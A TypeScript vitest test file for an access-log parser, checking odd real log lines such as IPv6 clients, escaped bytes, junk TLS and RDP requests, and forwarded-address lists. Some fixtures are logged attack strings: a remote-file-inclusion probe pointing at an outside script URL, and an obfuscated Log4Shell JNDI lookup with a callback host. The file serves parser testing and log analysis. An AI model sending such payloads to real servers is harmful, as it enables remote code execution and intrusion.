import { describe, expect, it } from 'vitest';
import type { LogRecord } from '../domain/record.js';
import { createRecordParser } from './index.js';
import { dataLine, dataLines, ingestFile, iso, needs, sharedData } from './testData.js';

/** Parses a line of a data file in auto mode, detecting the format from that file. */
function autoParse(rel: string, lineNo: number): LogRecord {
  const parser = createRecordParser({ format: 'auto' }, dataLines(rel).filter((l) => l !== '').slice(0, 200));
  const result = parser.parse(dataLine(rel, lineNo));
  if (!result.ok) throw new Error(`${result.reason}: ${result.detail}`);
  return result.record;
}

function parseAs(format: string, line: string): LogRecord {
  const result = createRecordParser({ format }, []).parse(line);
  if (!result.ok) throw new Error(`${result.reason}: ${result.detail}`);
  return result.record;
}

describe('odd but real lines', needs(sharedData), () => {
  it('IPv6 clients, full and compressed', () => {
    expect(autoParse('crowdsec-hub/calibre-web-whitelist__calibre-web-logs.log', 1)).toMatchObject({ clientIp: '2001:db8:1:2:3:4:5:6', protocol: 'HTTP/2.0', referer: null, userAgent: null });
    expect(autoParse('crowdsec-hub/ipv6-postoverflow__ipv6-postoverflow.log', 2).clientIp).toBe('2001:0db8:85a3:0000:0000:8a2e:0370:7334');
    expect(autoParse('crowdsec-hub/jellyseerr-whitelist__jellyseerr-logs.log', 1).protocol).toBe('HTTP/3.0');
  });

  it("Apache's \\\" inside the request is kept as logged in the message", () => {
    const rec = autoParse('crowdsec-hub/apache-http-probing__apache-http-probing.log', 45);
    expect(rec).toMatchObject({ statusCode: 404, method: 'GET', endpoint: '/sys/code/box.inc.php', protocol: 'HTTP/1.1' });
    expect(rec.message).toBe('GET /sys/code/box.inc.php?config[\\\\\\"sipssys\\\\\\"]=http://cirt.net/rfiinc.txt? HTTP/1.1');
  });

  it("nginx's \\x22 inside a request is kept in the message and undone in the user agent", () => {
    const rec = autoParse('crowdsec-hub/nginx_http-catch-npm__nginx_http-catch-npm.log', 4);
    expect(rec).toMatchObject({ statusCode: 400, method: null, endpoint: null, protocol: null, level: 'WARN', latencyMs: 811 });
    expect(rec.message).toContain('=\\x22\\xE1\\x1A\\x98 \\x84');
    const ua = parseAs('nginx_combined', '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1" 200 1 "-" "Bot \\x22quoted\\x22 \\xD0\\x91"');
    expect(ua.userAgent).toBe('Bot "quoted" Б');
  });

  it('requests that are `-`, empty, or binary junk sent to a plain-HTTP port (status 400)', () => {
    expect(autoParse('lnav/logfile_access_log.1', 1)).toMatchObject({ message: '-', method: null, endpoint: null, protocol: null, statusCode: 400, level: 'WARN', bytesSent: 0 });
    expect(autoParse('elastic-beats/nginx-access-test.log', 7)).toMatchObject({ message: '', method: null, statusCode: 400, clientIp: '127.0.0.1' });
    const tls = autoParse('crowdsec-hub/nginx-http-malformed__nginx_http-logs.log', 8);
    expect(tls).toMatchObject({ method: null, endpoint: null, protocol: null, statusCode: 400, level: 'WARN', bytesSent: 157 });
    expect(tls.message.startsWith('\\x16\\x03\\x01\\x00t\\x01\\x00\\x00p\\x03\\x01YF}')).toBe(true);
    const rdp = autoParse('fail2ban/nginx-bad-request.log', 3);
    expect(rdp).toMatchObject({ message: '\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr', method: null });
    expect(autoParse('crowdsec-hub/nginx-http-malformed__nginx_http-logs.log', 5).message).toBe('HELP');
  });

  it('a literal space inside a junk request', () => {
    expect(autoParse('crowdsec-hub/apache2-malformed__apache2-logs.log', 1)).toMatchObject({ message: '\\x16\\x03\\x01\\x01 \\x02', method: null, statusCode: 400, bytesSent: 226 });
  });

  it('very long URLs, UTF-8 and percent-encoded paths', () => {
    expect(autoParse('crowdsec-hub/CVE-2022-44877__CVE-2022-44877.log', 2)).toMatchObject({ method: 'POST', endpoint: '/index.php', statusCode: 302 });
    const long = `/${'a'.repeat(100_000)}`;
    expect(parseAs('nginx_combined', `1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET ${long}?q HTTP/1.1" 414 0 "-" "-"`).endpoint).toBe(long);
    expect(parseAs('nginx_combined', '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /café/ü?x=é HTTP/1.1" 200 1 "-" "-"').endpoint).toBe('/café/ü');
    expect(autoParse('crowdsec-hub/nextcloud-whitelist__nextcloud-whitelist.log', 2).endpoint).toBe('/index.php/apps/mail/api/avatars/url/noreply%40test.fr');
  });

  it('`-` for bytes or times is null (Apache %b `-` is 0 bytes)', () => {
    expect(parseAs('nginx_combined_timed', '1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1" 200 1 "-" "-" 0.001 -').latencyMs).toBe(1);
    expect(parseAs('apache_combined_us', dataLine('lnav/format_samples_access_log.txt', 7))).toMatchObject({ latencyMs: null, bytesSent: 0 });
    expect(autoParse('elastic-examples/apache_logs', 77)).toMatchObject({ endpoint: '/robots.txt', statusCode: 200, bytesSent: 0 });
  });

  it('an X-Forwarded-For list in the client position: the first address', () => {
    expect(autoParse('elastic-beats/nginx-access-test.log', 1).clientIp).toBe('10.0.0.2');
    expect(autoParse('elastic-beats/nginx-access-test.log', 5).clientIp).toBe('10.5.102.222');
    expect(autoParse('elastic-beats/nginx-access-test.log', 6).clientIp).toBe('2a02:cf40:10ff:f00f:0000:0000:0:8000');
    expect(autoParse('elastic-beats/nginx-access-test.log', 8)).toMatchObject({ clientIp: 'unix:', message: 'hello', method: null });
    expect(autoParse('elastic-beats/nginx-access-test.log', 10).clientIp).toBe('localhost');
  });

  it('a user agent cut off without its closing quote (apache_logs line 8899)', () => {
    expect(autoParse('elastic-examples/apache_logs', 8899)).toMatchObject({
      statusCode: 200,
      endpoint: '/scripts/grok-py-test/configlib.py',
      userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',
    });
  });

  it('referers with escaped non-UTF-8 bytes stay escaped (apache_logs line 5851)', () => {
    expect(autoParse('elastic-examples/apache_logs', 5851).referer).toBe('http://\\xe4\\xe5\\xe3\\xf2\\xff\\xf0\\xed\\xee\\xe5-\\xec\\xfb\\xeb\\xee.\\xf0\\xf4/');
  });

  it('status `-` is no status (logstash httpd spec)', () => {
    expect(autoParse('logstash-patterns-core/httpd_spec_lines.log', 3)).toMatchObject({ statusCode: null, level: 'INFO', method: 'OPTIONS', bytesSent: 7908 });
    expect(autoParse('logstash-patterns-core/httpd_spec_lines.log', 2)).toMatchObject({ referer: null, statusCode: 400 });
  });

  it('double spaces, a missing `-` field, no zone, no protocol', () => {
    expect(autoParse('lnav/format_samples_access_log.txt', 5)).toMatchObject({ clientIp: '10.1.10.51', statusCode: 200, latencyMs: 0.293 });
    expect(autoParse('crowdsec-hub/nginx_http-logs__nginx_http-logs.log', 8)).toMatchObject({ clientIp: '192.168.1.1', endpoint: '/api/test', statusCode: 200, bytesSent: 100 });
    const py = autoParse('lnav/format_samples_access_log.txt', 8);
    expect(iso(py.timestamp)).toBe('2023-08-29T22:02:58.000Z');
    const nasa = autoParse('lnav/format_samples_access_log.txt', 9);
    expect(nasa).toMatchObject({ method: 'GET', endpoint: '/~scottp/publish.html', protocol: null, statusCode: 200, bytesSent: 271 });
    expect(iso(nasa.timestamp)).toBe('1995-06-01T06:00:59.000Z');
    expect(autoParse('fail2ban/apache-pass.log', 1).timestamp).toBe(Date.parse('2013-06-27T11:55:44Z'));
  });

  it('rejects the deliberately broken line (no ident and user fields) with a reason', () => {
    const out = ingestFile('lnav/logfile_bad_access_log.0');
    expect(out.records).toHaveLength(2);
    expect(out.rejections).toEqual([
      {
        lineNo: 2, code: 'layout_mismatch', detail: "nginx_combined: expected ' - ' after $remote_addr (column 1)",
        text: dataLine('lnav/logfile_bad_access_log.0', 2),
      },
    ]);
  });

  it('strips a syslog header in auto mode', () => {
    const out = ingestFile('crowdsec-hub/http-bf-wordpress-bf__http-bf-wordpress-bf.log');
    expect(out.format).toBe('nginx_combined');
    expect(out.rejections).toEqual([]);
    expect(out.records[0]!.record).toMatchObject({ clientIp: '81.150.104.130', method: 'POST', endpoint: '/wp-login.php', statusCode: 200, bytesSent: 5364 });
    expect(iso(out.records[0]!.record.timestamp)).toBe('2021-09-15T16:13:46.000Z');
    expect(autoParse('fail2ban/nginx-http-auth.log', 9)).toMatchObject({ clientIp: '192.0.2.120', host: 'webdav.sub.domain' });
  });

  it('user agents and referers with ${jndi:…} are kept as text', () => {
    expect(autoParse('crowdsec-hub/apache_log4j2_cve-2021-44228__apache_log4j2_cve-2021-44228.log', 3).referer).toBe('${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}');
  });
});
